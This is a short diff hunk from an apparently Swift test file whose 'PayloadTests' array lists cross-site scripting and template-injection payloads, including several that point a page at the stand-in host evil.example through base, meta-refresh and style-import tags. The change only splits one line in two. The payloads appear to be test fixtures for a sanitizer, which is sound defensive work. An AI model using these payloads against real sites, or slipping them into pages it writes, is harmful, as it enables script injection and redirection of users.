@@ -12,7 +12,8 @@ struct PayloadTests {
         let engines = [
             "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "onfocus=alert(1) autofocus=",
             "javascript:alert(1)", "<iframe srcdoc='<script>alert(1)</script>'>", "<a href=\"javascript:alert(1)\">x</a>",
-            "<body onload=alert(1)>", "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">", "{{constructor.constructor('alert(1)')()}}",
+            "<body onload=alert(1)>", "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
+            "{{constructor.constructor('alert(1)')()}}",
             "<details open ontoggle=alert(1)>", "<base href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>",
             "<style>@import '//evil.example'</style>",
         ]
